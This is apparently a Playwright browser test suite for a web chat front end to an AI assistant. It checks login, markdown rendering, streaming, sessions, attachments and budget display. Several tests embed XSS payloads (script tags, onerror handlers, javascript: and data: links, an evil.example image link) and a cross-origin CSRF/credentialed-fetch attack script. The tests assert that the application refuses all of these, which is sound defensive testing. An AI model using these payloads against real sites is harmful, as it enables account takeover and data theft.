"""The page in a real browser: a person logs in, talks, and a hostile page or reply can do nothing."""

from __future__ import annotations

import asyncio
import os
import shutil
from collections.abc import AsyncIterator
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

from appliance.messages import Event, Inbound, SessionKey

from .house import House, Reply, Running

if TYPE_CHECKING:
    from playwright.async_api import Browser, BrowserContext, Page

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
REQUIRED = "chromium" in os.environ.get("APPLIANCE_REQUIRE", "")
if not REQUIRED:
    pytest.importorskip("playwright")

pytestmark = [
    pytest.mark.chromium,
    pytest.mark.skipif(CHROMIUM is None and not REQUIRED, reason="no Chromium on this machine"),
]

ANSWER = """## Plan

Some **bold** words, `code`, [a shop](https://shop.example/x), 你好 🎉.

1. one
   - inner
2. two

| a | b |
|---|--:|
| 1 | 2 |

```sh
echo "<b>hi</b>"
```

- [x] done

![out](http://evil.example/?q=canary) <script>window.hacked=1</script> <img src=x onerror="window.hacked=1">
[x](javascript:window.hacked=1) [y](data:text/html,<script>window.hacked=1</script>)
"""


@pytest.fixture
async def browser() -> AsyncIterator[Browser]:
    from playwright.async_api import async_playwright

    async with async_playwright() as playwright:
        started = await playwright.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox"])
        yield started
        await started.close()


class Watched:
    """A page of its own browser profile, with everything that went wrong on it."""

    def __init__(self, context: BrowserContext, page: Page) -> None:
        self.context = context
        self.page = page
        self.trouble: list[str] = []
        self.hosts: set[str] = set()
        page.on("console", lambda m: self.trouble.append(m.text) if m.type in ("error", "warning") else None)
        page.on("pageerror", lambda e: self.trouble.append(str(e)))
        page.on("request", lambda r: self.hosts.add(r.url.split("/")[2]))


async def opened(browser: Browser, running: Running, **options: Any) -> Watched:
    context = await browser.new_context(base_url=running.url, **options)
    context.set_default_timeout(10_000)
    return Watched(context, await context.new_page())


async def logged_in(browser: Browser, running: Running, **options: Any) -> Watched:
    watched = await opened(browser, running, **options)
    await watched.page.goto(f"/login#{running.auth.new_code()}")
    await watched.page.click("#later")
    await watched.page.wait_for_selector("#messages > *")
    return watched


async def say(page: Page, text: str) -> None:
    await page.fill("#text", text)
    await page.press("#text", "Enter")


async def script(house: House, inbound: Inbound, row: int) -> Reply:
    def emit(kind: Any, **data: Any) -> None:
        house.events.emit(Event(kind, inbound.session, {"turn": f"t{row}", "message_ids": [row], **data}))

    emit("accepted")
    emit("text", delta="Let me look.")
    emit("tool_start", id="c1", name="exec", input={"command": "ls <b>"})
    emit("tool_end", id="c1", name="exec", ok=False, summary="<i>no such file</i>")
    for start in range(0, len(ANSWER), 50):
        emit("text", delta=ANSWER[start : start + 50])
        await asyncio.sleep(0.002)
    return Reply(ANSWER, inbound.session, f"a{row}", model="claude-sonnet-5-5", cost_usd="0.0123")


async def test_a_person_logs_in_by_code_sets_a_password_and_comes_back_with_it(
    browser: Browser, running: Running
) -> None:
    first = await opened(browser, running)
    await first.page.goto("/")
    assert first.page.url.endswith("/login")
    await first.page.fill("#code", running.auth.new_code().lower())
    await first.page.click("#code-form button[type=submit]")
    await first.page.fill("#new-password", "correct horse")
    await first.page.fill("#again", "other horse")
    await first.page.click("#new-form button[type=submit]")
    assert "differ" in await first.page.inner_text("#problem")
    await first.page.fill("#again", "correct horse")
    await first.page.click("#new-form button[type=submit]")
    await first.page.wait_for_selector("#composer")
    second = await opened(browser, running)
    await second.page.goto("/login")
    await second.page.fill("#password", "wrong horse")
    await second.page.press("#password", "Enter")
    await second.page.wait_for_selector("#problem:visible")
    await second.page.fill("#password", "correct horse")
    await second.page.press("#password", "Enter")
    await second.page.wait_for_selector("#composer")
    assert first.trouble == []
    assert await second.page.evaluate("document.cookie") == ""


async def test_an_answer_is_drawn_and_nothing_in_it_runs_or_is_fetched(
    browser: Browser, running: Running, house: House
) -> None:
    house.script = script
    asked = 0
    for width, height in ((1280, 800), (390, 844)):
        for scheme in ("light", "dark"):
            watched = await logged_in(
                browser, running, viewport={"width": width, "height": height}, color_scheme=scheme
            )
            page = watched.page
            await say(page, "please look <b>now</b>")
            answer = page.locator(".message.assistant").nth(asked)
            asked += 1
            await answer.locator(".foot", has_text="claude-sonnet-5-5").wait_for()
            assert "$0.01" in await answer.locator(".foot").inner_text()
            assert await page.locator(".message.user .body").last.inner_text() == "please look <b>now</b>"
            assert await answer.locator(".markdown").first.inner_text() == "Let me look."
            assert await answer.locator("h3", has_text="Plan").count() == 1
            assert await answer.locator("ol > li > ul > li").inner_text() == "inner"
            assert await answer.locator("td").all_inner_texts() == ["1", "2"]
            assert await answer.locator("pre code").inner_text() == 'echo "<b>hi</b>"'
            assert "(shop.example)" in await answer.inner_text()
            assert (
                await answer.locator("img, script, iframe, [onerror], a[href^='javascript'], a[href^='data']").count()
                == 0
            )
            await answer.locator("summary").click()
            step = answer.locator(".step")
            assert await step.locator(".state").inner_text() == "failed"
            assert await step.locator("pre").last.inner_text() == "<i>no such file</i>"
            assert await page.evaluate("window.hacked") is None
            width_used = await page.evaluate(
                "[document.documentElement.scrollWidth, document.documentElement.scrollHeight]"
            )
            assert width_used == [width, height]  # nothing sticks out
            assert watched.hosts == {running.url.split("/")[2]}
            assert watched.trouble == []
            await watched.context.close()


async def test_the_newest_text_stays_in_sight_unless_the_reader_scrolled_up(
    browser: Browser, running: Running, house: House
) -> None:
    go = asyncio.Event()

    async def long(home: House, inbound: Inbound, row: int) -> Reply:
        data = {"turn": f"t{row}", "message_ids": [row]}
        home.events.emit(Event("text", inbound.session, {**data, "delta": "line\n\n" * 60}))
        await go.wait()
        home.events.emit(Event("text", inbound.session, {**data, "delta": "line\n\n" * 60}))
        return Reply("line\n\n" * 120, inbound.session, f"a{row}")

    house.script = long
    page = (await logged_in(browser, running)).page
    await say(page, "x")
    await page.wait_for_function("() => document.querySelectorAll('.markdown p').length === 60")
    at_end = """() => {
        const log = document.querySelector("#log");
        return log.scrollHeight - log.scrollTop - log.clientHeight < 5;
    }"""
    await page.wait_for_function(at_end)
    await page.evaluate("document.querySelector('#log').scrollTop = 0")
    await page.wait_for_selector("#to-end:visible")
    go.set()
    await page.wait_for_function("() => document.querySelectorAll('.markdown p').length === 120")
    assert await page.evaluate("document.querySelector('#log').scrollTop") == 0
    await page.click("#to-end")
    await page.wait_for_function(at_end)


async def test_a_running_turn_can_be_stopped_and_joined_and_a_command_does_not_end_it(
    browser: Browser, running: Running, house: House
) -> None:
    go = asyncio.Event()

    async def slow(home: House, inbound: Inbound, row: int) -> Reply:
        if inbound.text.startswith("/"):
            return Reply("all well", inbound.session, f"a{row}")
        home.events.emit(Event("text", inbound.session, {"turn": f"t{row}", "delta": "begun", "message_ids": [row]}))
        await go.wait()
        return Reply("begun, stopped", inbound.session, f"a{row}")

    house.script = slow
    page = (await logged_in(browser, running)).page
    await say(page, "work")
    await page.wait_for_selector("text=begun")
    await say(page, "/status")
    await page.locator(".message.assistant", has_text="all well").wait_for()
    assert await page.locator(".working:visible").count() == 1
    await page.press("#text", "Escape")
    async with asyncio.timeout(5):
        while not house.stopped:
            await asyncio.sleep(0.01)
    go.set()
    await page.locator(".message.assistant", has_text="begun, stopped").wait_for()
    assert await page.locator("#stop").is_hidden()
    assert await page.locator(".working").count() == 0


async def test_enter_while_an_input_method_composes_does_not_send(
    browser: Browser, running: Running, house: House
) -> None:
    page = (await logged_in(browser, running)).page
    await page.fill("#text", "ni hao")
    fire = """given => {
        const event = new KeyboardEvent("keydown", {key: "Enter", bubbles: true, ...given});
        document.querySelector("#text").dispatchEvent(event);
    }"""
    await page.evaluate(fire, {"isComposing": True})
    await page.press("#text", "Shift+Enter")
    await page.keyboard.type("second line")
    assert house.book == []
    await page.evaluate(fire, {"isComposing": False})
    await page.locator(".message.assistant .foot", has_text="scripted").wait_for()
    assert house.book[0].text == "ni hao\nsecond line"


async def test_a_message_that_could_not_be_sent_is_kept_and_sent_once_by_trying_again(
    browser: Browser, running: Running, house: House
) -> None:
    watched = await logged_in(browser, running)
    page = watched.page
    await watched.context.set_offline(True)
    await say(page, "important")
    await page.locator(".message.user.failed").wait_for()
    await watched.context.set_offline(False)
    await page.click("text=Try again")
    await page.locator(".message.assistant", has_text="You said: important").wait_for()
    assert [inbound.text for inbound in house.book] == ["important"]
    assert await page.locator(".message.user").count() == 1


async def test_what_is_said_elsewhere_appears_with_its_question(
    browser: Browser, running: Running, house: House
) -> None:
    page = (await logged_in(browser, running)).page
    await page.wait_for_selector(".empty")
    async with asyncio.timeout(5):
        while not house.events.open:
            await asyncio.sleep(0.01)
    await house.accept(running.services.web.inbound("main", "from the phone"))
    await page.locator(".message.assistant", has_text="You said: from the phone").wait_for()
    assert await page.locator(".message.user .body").all_inner_texts() == ["from the phone"]
    assert await page.locator(".message.assistant").count() == 1


async def test_a_notice_outside_a_turn_is_shown_and_leaves_nothing_running(
    browser: Browser, running: Running, house: House
) -> None:
    page = (await logged_in(browser, running)).page
    async with asyncio.timeout(5):
        while not house.events.open:
            await asyncio.sleep(0.01)
    house.events.emit(
        Event("notice", SessionKey.main(), {"text": "80% of today is spent.", "turn": "", "message_ids": []})
    )
    await page.locator(".notice", has_text="80%").wait_for()
    assert await page.locator("#stop").is_hidden()


async def test_sessions_are_listed_searched_made_and_kept_apart(
    browser: Browser, running: Running, house: House
) -> None:
    await house.accept(running.services.web.inbound("garden", "roses"))
    page = (await logged_in(browser, running)).page
    await page.click("#sessions button:has-text('garden')")
    await page.locator(".message.user", has_text="roses").wait_for()
    await page.fill("#filter", "zzz")
    assert await page.locator("#sessions button").count() == 0
    await page.fill("#filter", "")
    await page.click("#new-session")
    await page.wait_for_selector(".empty")
    await say(page, "fresh start")
    await page.locator(".message.assistant", has_text="You said: fresh start").wait_for()
    assert house.book[-1].session.value.startswith("agent:main:web:chat-")
    await page.locator("#sessions button[aria-current=true]", has_text="chat-").wait_for()


async def test_files_are_attached_shown_and_sent(
    browser: Browser, running: Running, house: House, tmp_path: Path
) -> None:
    from PIL import Image

    picture, note = tmp_path / "pic.png", tmp_path / "notiz März.txt"
    Image.new("RGB", (30, 20), "red").save(picture)
    note.write_text("hello")
    watched = await logged_in(browser, running)
    page = watched.page
    await page.set_input_files("#file", [str(picture), str(note)])
    await page.wait_for_function(
        "() => document.querySelectorAll('#files .file').length === 2 && !document.querySelector('#files progress')"
    )
    await page.click("#send")
    await page.locator(".sent-files .picture img").wait_for()
    async with asyncio.timeout(5):
        while not house.book:
            await asyncio.sleep(0.01)
    assert [(item.kind, item.name) for item in house.book[0].attachments] == [
        ("image", "pic.png"),
        ("document", "notiz März.txt"),
    ]
    assert await page.evaluate("document.querySelector('.sent-files img').naturalWidth") == 30
    assert watched.trouble == []


async def test_the_language_and_the_theme_are_chosen_and_remembered(browser: Browser, running: Running) -> None:
    page = (await logged_in(browser, running, locale="zh-CN")).page
    assert await page.inner_text("#open-settings") == "设置"
    await page.click("#open-settings")
    await page.select_option("#language", "zh-Hant")
    await page.select_option("#theme", "dark")
    await page.reload()
    await page.wait_for_selector(".empty")
    assert await page.inner_text("#open-settings") == "設定"
    assert await page.evaluate("document.documentElement.lang") == "zh-Hant"
    assert await page.evaluate("getComputedStyle(document.body).backgroundColor") == "rgb(23, 23, 21)"


async def test_the_budget_is_shown_and_raised_near_the_limit(browser: Browser, running: Running, house: House) -> None:
    from decimal import Decimal

    house.limit = Decimal("0.45")
    page = (await logged_in(browser, running)).page
    await page.locator("#spent", has_text="$0.42 of $0.45").wait_for()
    await page.click("#raise")
    await page.fill("#raise-usd", "2")
    await page.click("#raise-form .primary")
    await page.locator("#spent", has_text="$0.42 of $2.45").wait_for()


async def test_the_local_models_progress_is_shown_until_it_is_ready(browser: Browser, running: Running) -> None:
    status: dict[str, Any] = {"phase": "fetching", "percent": 43.0, "detail": "smollm2 61 of 145 MB"}
    async with Running(running.state / "second", House(), models=lambda: status) as second:
        page = (await logged_in(browser, second)).page
        await page.locator("#model-text", has_text="being fetched · smollm2 61 of 145 MB").wait_for()
        assert await page.evaluate("document.querySelector('#model-bar').value") == 43
        status.update(phase="ready", percent=None, detail="")
        await page.locator("#model").wait_for(state="hidden")


async def test_a_login_that_is_ended_elsewhere_leads_back_to_the_login_page(browser: Browser, running: Running) -> None:
    page = (await logged_in(browser, running)).page
    await running.auth.revoke(running.auth.logins()[0]["id"])
    await page.wait_for_url("**/login", timeout=15_000)


async def test_a_page_of_another_origin_can_do_nothing(browser: Browser, running: Running, house: House) -> None:
    watched = await logged_in(browser, running)
    other = await asyncio.start_server(hostile, "127.0.0.1", 0)
    port = other.sockets[0].getsockname()[1]
    async with other:
        page = await watched.context.new_page()  # the same profile: the owner's cookie is there
        await page.goto(f"http://localhost:{port}/")
        results = await page.evaluate(ATTACKS, running.url)
        assert results["read"] == "refused"
        assert results["event"] == "refused"
        assert results["socket"] == "refused"
        assert results["frame"] == "refused"
        await page.evaluate("document.querySelector('form').submit()", None)
        await page.wait_for_load_state()
    assert house.book == []
    for _ in range(6):
        assert running.auth.throttle.take("127.0.0.1") == 0 or running.auth.throttle.locked("127.0.0.1")


ATTACKS = """async url => {
  const out = {};
  const body = '{"text":"attack"}';
  for (const mode of ["no-cors", "cors"]) {
    await fetch(url + "/api/messages", {method: "POST", mode, credentials: "include", body}).catch(() => {});
  }
  out.read = await fetch(url + "/api/sessions", {credentials: "include"}).then(r => r.text(), () => "refused");
  out.event = await new Promise(done => {
    const source = new EventSource(url + "/api/events", {withCredentials: true});
    source.onopen = () => done("open"); source.onerror = () => { source.close(); done("refused"); };
  });
  out.socket = await new Promise(done => {
    const socket = new WebSocket(url.replace("http", "ws") + "/api/events");
    socket.onopen = () => done("open"); socket.onerror = () => done("refused");
  });
  out.frame = await new Promise(done => {
    const frame = document.createElement("iframe");
    frame.onload = () => {
      try { done(frame.contentDocument.body.innerText ? "open" : "refused"); } catch { done("refused"); }
    };
    frame.src = url + "/"; document.body.append(frame);
  });
  const form = document.createElement("form");
  form.method = "POST"; form.enctype = "text/plain"; form.action = url + "/api/messages";
  const field = document.createElement("input");
  field.name = '{"text":"attack","id":"'; field.value = '"}';
  form.append(field); document.body.append(form);
  return out;
}"""


async def hostile(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    await reader.readline()
    writer.write(b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nConnection: close\r\n\r\n<!doctype html><body>evil")
    await writer.drain()
    writer.close()


HARD = (
    "*",
    "**",
    "`",
    "[",
    "_",
    "|",
    "~~",
    "> ",
    "- ",
    "1. ",
    "#",
    "[a](",
    "![a](",
    "<http://",
    "\\",
    "`a``",
    "  - x\n",
    "字",
)


async def test_no_text_is_lost_misread_as_markup_or_slow_to_draw(browser: Browser, running: Running) -> None:
    page = (await opened(browser, running)).page
    await page.goto("/login")
    draw = """async text => {
      const { render } = await import("/static/markdown.js");
      const box = document.createElement("div");
      const before = performance.now();
      box.append(render(text));
      const tags = [...new Set([...box.querySelectorAll("*")].map(e => e.tagName))];
      return { text: box.textContent, tags, ms: performance.now() - before };
    }"""
    allowed = set(
        "P BR STRONG EM S A SPAN CODE PRE DIV BUTTON H3 H4 H5 H6 UL OL LI BLOCKQUOTE HR TABLE THEAD TBODY TR TH".split()
    ) | {"TD"}
    for unit in HARD:
        drawn = await page.evaluate(draw, (unit * 20_000)[:32_768])
        assert drawn["ms"] < 3000, unit
        assert set(drawn["tags"]) <= allowed, unit
    for plain in (
        "a < b && c > d",
        "&amp;" * 20,
        "x_y_z 2*3*4 a**b",
        "C:\\temp\\new",
        "עברית ו-English",
        "👩‍👩‍👧 ok",
        "a\u200bb",
    ):
        drawn = await page.evaluate(draw, plain)
        assert drawn["text"].replace("\\", "") == plain.replace("\\", ""), plain
    nested = await page.evaluate(draw, "> " * 200 + "deep")
    assert "deep" in nested["text"]
